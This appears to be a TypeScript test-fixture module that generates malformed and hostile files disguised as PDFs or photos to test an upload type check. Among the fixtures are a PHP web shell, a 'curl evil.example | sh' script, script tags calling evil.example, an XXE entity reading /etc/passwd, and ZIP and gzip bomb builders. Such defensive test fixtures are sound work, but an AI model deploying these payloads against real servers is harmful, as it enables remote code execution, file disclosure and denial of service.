import { deflateRawSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { makePdf } from '../pdfs.ts';
import { asJpeg, asPdf, type HostileFile } from './case.ts';

const script = '<script>fetch("//evil.example")</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const square = () => sharp({ create: { width: 32, height: 32, channels: 3, background: '#a33' } });

let bomb: Buffer | null = null;

/** A ZIP of one file: zeros that unfold to a thousand times their size. */
export function zipBomb(): Buffer {
  bomb ??= packZeros();
  return bomb;
}

function packZeros(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(50 * 1024 * 1024));
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(50 * 1024 * 1024, 22);
  head.writeUInt16LE(1, 26);
  return Buffer.concat([head, Buffer.from('a'), packed]);
}

const animated = async (kind: 'gif' | 'webp') => {
  const frames = await sharp({ create: { width: 8, height: 16, channels: 3, background: '#0a0' } })
    .raw()
    .toBuffer();
  const film = sharp(frames, { raw: { width: 8, height: 16, channels: 3, pageHeight: 8 } });
  return kind === 'gif' ? film.gif().toBuffer() : film.webp().toBuffer();
};

/** Things that are neither PDF nor JPEG, whatever they call themselves. */
export async function otherKinds(): Promise<HostileFile[]> {
  const jpeg = await square().jpeg().toBuffer();
  const starts: Record<string, Buffer | string> = {
    'an SVG with a script': svg,
    'a page of HTML': `<!doctype html>${script}`,
    'XML that reads files of the server':
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    'a shell script': '#!/bin/sh\ncurl evil.example | sh\n',
    'a PHP script': '<?php system($_GET["c"]); ?>',
    'a program for Linux': Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(200)]),
    'a program for Windows': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]),
    'a ZIP bomb': zipBomb(),
    'a gzip bomb': gzipSync(Buffer.alloc(50 * 1024 * 1024)),
    'random bytes': Buffer.from(Array.from({ length: 5_000 }, (_none, index) => (index * 7919) % 256)),
    'plain text': 'My homework is late because of the dog.',
    PostScript: '%!PS-Adobe-3.0\n(evil) run\n',
    'a text in rich format': '{\\rtf1 {\\object\\objdata 0105}}',
    'a film': Buffer.concat([Buffer.from('\0\0\0\x18ftypisom'), Buffer.alloc(100)]),
    'a HEIC picture': Buffer.concat([Buffer.from('\0\0\0\x18ftypheic'), Buffer.alloc(100)]),
    'a JPEG 2000 picture': Buffer.concat([
      Buffer.from('\0\0\0\x0cjP  \r\n\x87\n', 'latin1'),
      Buffer.alloc(100),
    ]),
    'a bitmap': Buffer.concat([Buffer.from('BM'), Buffer.alloc(100)]),
    'a TIFF picture': await square().tiff().toBuffer(),
    'a PNG picture': await square().png().toBuffer(),
    'an AVIF picture': await square().avif({ effort: 0 }).toBuffer(),
    'an animated GIF': await animated('gif'),
    'an animated WebP': await animated('webp'),
  };
  return [
    ...Object.entries(starts).map(([title, content], index) =>
      index % 2 === 0
        ? asPdf(`${title} called a PDF`, content, 'wrong_type')
        : asJpeg(`${title} called a photo`, content, 'wrong_type'),
    ),
    asJpeg('an SVG with a script called a photo', svg, 'wrong_type'),
    asPdf('a photo called a PDF', jpeg, 'wrong_type'),
    asJpeg('a PDF called a photo', makePdf({ text: 'not a photo' }), 'wrong_type'),
    asPdf('a PDF behind a page of HTML', Buffer.concat([Buffer.from(script), makePdf()]), 'wrong_type'),
    asPdf('a PDF behind a ZIP', Buffer.concat([zipBomb(), makePdf()]), 'wrong_type'),
    asPdf('a PDF behind an invisible sign', Buffer.concat([Buffer.from('\ufeff'), makePdf()]), 'wrong_type'),
    asPdf('a PDF of a version that does not exist', '%PDF-9.9\n', 'wrong_type'),
    asPdf('a PDF that is a photo too', Buffer.concat([jpeg, makePdf()]), 'wrong_type'),
  ];
}
